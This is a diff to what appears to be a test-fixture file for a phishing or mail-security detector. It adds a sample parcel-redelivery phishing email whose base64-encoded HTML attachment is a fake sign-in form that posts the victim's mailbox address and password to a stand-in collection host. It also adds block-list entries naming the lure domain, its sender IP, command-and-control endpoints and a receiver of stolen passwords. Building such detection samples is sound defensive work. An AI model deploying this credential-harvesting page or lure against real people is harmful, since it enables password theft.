@@ -35,6 +35,51 @@ export const phishingMail = [
   '',
 ].join('\r\n')
 
+/** The page that comes with the parcel notices: it asks for a password and sends it elsewhere. */
+export const deliveryNote = [
+  '<!DOCTYPE html>',
+  '<html><head><title>Example Parcel - confirm your delivery</title></head><body>',
+  '<h1>Your parcel is waiting</h1>',
+  '<p>Sign in with your mailbox to choose a new date.</p>',
+  '<form method="post" action="https://collect.parcel-redelivery.test/p">',
+  '<input name="mail" placeholder="Mail address"><input type="password" name="pass">',
+  '<button>Confirm</button></form>',
+  '</body></html>',
+  '',
+].join('\n')
+
+export const parcelMail = [
+  'Return-Path: <bounce@parcel-redelivery.test>',
+  'Received: from mx.corp.example (mx.corp.example [10.0.0.5])',
+  ' by mailbox.corp.example with LMTP; Wed, 11 Nov 2026 08:02:31 +0000',
+  'Received: from out.parcel-redelivery.test (unknown [198.51.100.181])',
+  ' by mx.corp.example (Postfix) with ESMTPS id 7C1; Wed, 11 Nov 2026 08:02:29 +0000 (UTC)',
+  'Authentication-Results: mx.corp.example; spf=pass smtp.mailfrom=parcel-redelivery.test; dkim=none',
+  'Authentication-Results: mx.corp.example; dmarc=fail header.from=parcel-redelivery.test',
+  'From: "Example Parcel" <dispatch@parcel-redelivery.test>',
+  'Reply-To: <redelivery@free-mail.example>',
+  'To: Sales <sales@corp.example>',
+  'Subject: Your parcel is waiting: one step left',
+  'Date: Wed, 11 Nov 2026 09:02:00 +0100',
+  'Message-ID: <c81@out.parcel-redelivery.test>',
+  'MIME-Version: 1.0',
+  'Content-Type: multipart/mixed; boundary="outer"',
+  '',
+  '--outer',
+  'Content-Type: text/html; charset=utf-8',
+  '',
+  '<p>We could not deliver your parcel. Open the attached note or go to',
+  '<a href="https://parcel-redelivery.test/track?id=40912">https://www.example-parcel.example/track</a>.</p>',
+  '--outer',
+  'Content-Type: text/html; name="delivery-note.html"',
+  'Content-Disposition: attachment; filename="delivery-note.html"',
+  'Content-Transfer-Encoding: base64',
+  '',
+  Buffer.from(deliveryNote).toString('base64'),
+  '--outer--',
+  '',
+].join('\r\n')
+
 export const newsletter = [
   'Received: from mail.friends.example (mail.friends.example [192.0.2.20]) by mx.corp.example;',
   ' Tue, 03 Nov 2026 10:00:00 +0000',
@@ -106,6 +151,8 @@ export const blockList = [
   'beacon.update-check.test, command and control',
   'http://203.0.113.66/gate, command and control',
   'collect@free-mail.example, receives stolen passwords',
+  'parcel-redelivery.test, imitates a parcel service',
+  '198.51.100.181, sends parcel notices',
 ]
 
 /** Known for a few days only: earlier reports of the same value say less. */
